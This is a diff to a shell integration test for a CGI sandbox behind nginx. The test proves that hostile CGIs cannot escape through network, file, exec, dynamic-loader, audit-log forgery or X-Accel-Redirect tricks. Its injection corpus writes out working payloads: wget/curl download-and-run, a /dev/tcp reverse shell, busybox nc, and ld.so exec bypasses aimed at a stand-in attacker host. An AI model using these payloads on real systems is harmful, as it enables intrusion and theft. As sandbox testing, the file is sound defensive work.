@@ -8,8 +8,11 @@
 #
 # Then the vulnerable CGIs (eval of the raw query, system() of a decoded
 # parameter) with an injection corpus covering every bypass class of
-# DESIGN.md.  Query re-escaping is off (query = raw) in every profile
-# here, so what is proven is the jail alone.
+# DESIGN.md, and a profile that wrongly lets the injected tools run, to
+# show the network and filesystem layers hold on their own.  Query
+# re-escaping is off (query = raw) in every profile here, so what is
+# proven is the jail alone.  A known gap that is documented rather than a
+# bug is reported with the TAP TODO directive.
 . "${top_srcdir:-.}/tests/integration/lib.sh"
 
 command -v python3 >/dev/null || { echo "1..0 # SKIP python3 missing"; exit 0; }
@@ -26,12 +29,18 @@ PWNED=hostile-pwned
 # scripts as nobody at the same time would eat into this file's limit.
 JAIL_UID=64123
 
+# running NAME: pids of live (not zombie) processes called NAME
+running() {
+	ps -e -o pid=,stat=,comm= |
+	    awk -v n="$1" '$3 == n && $2 !~ /^Z/ { printf "%s ", $1 }'
+}
+
 jail_cleanup() {
 	[ -n "$ATTACKER_PID" ] && kill "$ATTACKER_PID" 2>/dev/null
 	[ -n "$VICTIM_PID" ] && kill "$VICTIM_PID" 2>/dev/null
 	# a daemon that escaped would be a failure already reported; still,
 	# leave nothing behind
-	for p in $(pgrep -x hostile-daemon); do kill -KILL "$p" 2>/dev/null; done
+	for p in $(running hostile-daemon); do kill -KILL "$p" 2>/dev/null; done
 	for f in /etc/$PWNED /usr/$PWNED; do
 		[ -e "$f" ] && rm -f "$f"
 	done
@@ -46,6 +55,8 @@ install_script "$top_srcdir/tests/cgi/scripts/vuln_eval.sh" vuln_leaky.sh
 
 # Every script here: the default policy, query re-escaping off, and
 # limits small enough that the bombs end quickly.
+mkdir -p "$T/rw"
+chown "$JAIL_UID:$JAIL_UID" "$T/rw"
 cat > "$T/profiles/jail.conf" <<PROFILE
 [profile]
 name = jail
@@ -57,6 +68,8 @@ group = $JAIL_UID
 timeout = 10
 cpu = 2
 output = 8M
+[filesystem]
+writable = $T/rw
 [environment]
 query = raw
 PROFILE
@@ -116,6 +129,14 @@ APORT=$(cat "$T/attacker.port")
 setpriv --reuid=$JAIL_UID --regid=$JAIL_UID --clear-groups sleep 600 &
 VICTIM_PID=$!
 
+# A file nginx may read and the scripts may not, behind an internal
+# location: only nginx itself can be made to serve it.
+mkdir -p "$T/secret"
+echo "SECRET-FLAG-$$" > "$T/secret/flag"
+chown -R root:www-data "$T/secret"
+chmod 0750 "$T/secret"
+chmod 0640 "$T/secret/flag"
+NGINX_EXTRA="location /internal-secret/ { internal; alias $T/secret/; }"
 start_nginx
 # one worker: concurrent requests share a PID namespace view and a /tmp,
 # which is what the cross-request attempts below need
@@ -124,6 +145,7 @@ start_safecgi -c 1
 # ----------------------------------------------------------- helpers
 
 attacker_lines() { wc -l < "$ATTACKER_LOG"; }
+
 
 # Processes of requests: everything three or more levels below the
 # master (master, worker, spawner, then the request).
@@ -296,12 +318,31 @@ attempt "hostile CGI cannot connect to safecgi's own FastCGI socket" \
     "fastcgi_socket=$SOCK"
 attempt "hostile CGI cannot connect to an abstract unix socket of the host" \
     "abstract=$ABSTRACT"
+attempt "hostile CGI can connect to no unix socket file it can find" unix_scan
+# Concurrent requests of a worker share its network namespace: only the
+# Landlock scope keeps one from another's abstract socket.
+curl -s -o "$T/listen" --max-time 30 \
+    "$BASE/cgi-bin/hostile?abstract_listen=jail-$$" &
+lpid=$!
+sleep 0.5
+attempt "hostile CGI cannot connect to another request's abstract unix socket" \
+    "abstract=jail-$$"
+wait "$lpid"
+bl=$(head -n 1 "$T/listen")
+check "the other request's listener saw no connection" \
+    [ "${bl#BLOCKED abstract_listen }" != "$bl" ]
 
 attempt "hostile CGI cannot execute /bin/sh" exec_sh
 attempt "hostile CGI cannot execute wget (and wget reaches nobody)" \
     "exec_wget=$APORT"
 attempt "hostile CGI cannot execute curl (and curl reaches nobody)" \
     "exec_curl=$APORT"
+# ld.so may be executed (the kernel opens it for every dynamic program);
+# run directly, it maps and runs any program it can read
+attempt "hostile CGI cannot run /bin/sh through the dynamic loader" \
+    exec_ldso_sh
+attempt "hostile CGI cannot run wget through the dynamic loader (and wget reaches nobody)" \
+    "exec_ldso_wget=$APORT"
 
 attempt "hostile CGI cannot write to /etc" write_etc - "" \
     "no_host_file /etc/$PWNED"
@@ -311,12 +352,52 @@ attempt "hostile CGI cannot write to /usr" write_usr - "" \
     "no_host_file /usr/$PWNED"
 attempt "hostile CGI cannot write to its own directory" write_own_dir - "" \
     "no_host_file $CGIBIN/$PWNED"
-attempt "hostile CGI cannot execute a file it wrote to /tmp, /var/tmp or /dev/shm" \
+attempt "hostile CGI cannot execute a file it wrote to /tmp, /var/tmp or /dev/shm (nor through ld.so)" \
     tmp_exec
+bl=
+check "the refused execve of a file the script wrote to /tmp is on record" \
+    sh -c "tail -n +$((AMARK + 1)) '$AUDIT' | grep '\"event\":\"exec_denied\"' |
+	grep -q '\"path\":\"/tmp/hostile-exec\.'"
 attempt "hostile CGI cannot execute a memfd copy of itself (memfd_create, execveat)" \
     memfd_exec memfd_create
 attempt "hostile CGI cannot create a device node" mknod
+
+# Denied calls whose arguments try to break the record: a fake event
+# with quotes and newlines in a path, a path without an end, a bad
+# pointer.  All fail, the log stays one JSON object a line, nothing is
+# forged, the refused execve is recorded, and the worker lives on.
+attempt "hostile CGI's forged, unterminated and bad execve paths all fail" \
+    "audit_inject=$T/rw" socket AF_INET
+bl=
+check "the audit log is still one JSON object a line, with nothing forged" \
+    python3 -c '
+import json, sys
+for line in open(sys.argv[1]):
+    if json.loads(line).get("event") == "forged":
+        sys.exit(1)' "$AUDIT"
+check "the execve of the file with the forged name is on record, name intact" \
+    python3 -c '
+import json, sys
+for line in open(sys.argv[1]):
+    e = json.loads(line)
+    if e.get("event") == "exec_denied" and \
+        e.get("path", "").startswith(sys.argv[2] + "/x\"}\n{\"event\""):
+        sys.exit(0)
+sys.exit(1)' "$AUDIT" "$T/rw"
+s=$(http_status "$BASE/cgi-bin/hello")
+check "the worker still answers after the malformed calls" [ "$s" = 200 ]
 attempt "hostile CGI cannot read /etc/shadow" read_shadow
+attempt "hostile CGI cannot read a file only the web server may read" \
+    "read_file=$T/secret/flag"
+# The response is nginx's to interpret: an X-Accel-Redirect header would
+# have nginx serve any location, internal ones too, with its own rights.
+s=$(http_status "$BASE/cgi-bin/hostile?accel_redirect=/internal-secret/flag")
+if [ "$s" = 502 ] && ! grep -q SECRET-FLAG "$T/body"
+then
+	ok "hostile CGI cannot make nginx serve it an internal location (X-Accel-Redirect is refused, 502)"
+else
+	not_ok "hostile CGI cannot make nginx serve it an internal location (X-Accel-Redirect is refused, 502)" "HTTP $s: $(head -c 200 "$T/body")"
+fi
 attempt "hostile CGI cannot see into /root" see_root
 attempt "hostile CGI cannot read /proc/1/environ" proc1_environ
 attempt "hostile CGI cannot open /proc/sys, /proc/sysrq-trigger or /sys for writing" \
@@ -362,14 +443,14 @@ case $bl in
 esac
 wait_gone_x() {
 	i=0
-	while pgrep -x "$1" >/dev/null && [ $i -lt 30 ]; do
+	while [ -n "$(running hostile-daemon)" ] && [ $i -lt 30 ]; do
 		sleep 0.1
 		i=$((i + 1))
 	done
-	! pgrep -x "$1" >/dev/null
+	[ -z "$(running hostile-daemon)" ]
 }
 wait_gone_x hostile-daemon ||
-    why="$why; hostile-daemon still runs: $(pgrep -a -x hostile-daemon)"
+    why="$why; hostile-daemon still runs: pid $(running hostile-daemon)"
 left=$(leftovers)
 [ -z "$left" ] || why="$why; processes outlived the request: $left"
 verdict "a double-forked, setsid daemon does not outlive its request" "${why#; }"
@@ -502,9 +583,10 @@ draytek-mainfunction 127.0.0.1;wget${IFS}http://@A@/wget.sh;${IFS}chmod${IFS}+x$
 draytek-printf-cd 0%52$c%52$ccd${IFS}/dev;wget${IFS}http://@A@/wget.sh;${IFS}chmod${IFS}+x${IFS}wget.sh;sh${IFS}wget.sh
 curl-pipe-sh 127.0.0.1;curl${IFS}-s${IFS}http://@A@/curl.sh|sh
 dev-tcp 127.0.0.1;exec${IFS}3<>/dev/tcp/127.0.0.1/@P@;echo${IFS}devtcp>&3
-dev-tcp-reverse-shell 127.0.0.1;bash${IFS}-c${IFS}"bash${IFS}-i>&/dev/tcp/127.0.0.1/@P@${IFS}0>&1"
+dev-tcp-reverse-shell 127.0.0.1;bash${IFS}-c${IFS}'bash${IFS}-i>&/dev/tcp/127.0.0.1/@P@<&1'
 busybox-wget 127.0.0.1;busybox${IFS}wget${IFS}http://@A@/busybox;busybox${IFS}nc${IFS}127.0.0.1${IFS}@P@
 background-persistence 127.0.0.1;eval${IFS}"(while${IFS}:;do${IFS}:;done)&"
+dynamic-loader 127.0.0.1;/lib64/ld-linux-x86-64.so.2${IFS}/usr/bin/id;/lib64/ld-linux-x86-64.so.2${IFS}/usr/bin/wget${IFS}-t1${IFS}http://@A@/ldso;/lib64/ld-linux-x86-64.so.2${IFS}/usr/bin/touch${IFS}@T@/pwned
 python-socket 127.0.0.1;python3${IFS}-c${IFS}'import${IFS}socket;socket.create_connection(("127.0.0.1",@P@))'
 CORPUS
 # what the base64 class decodes to
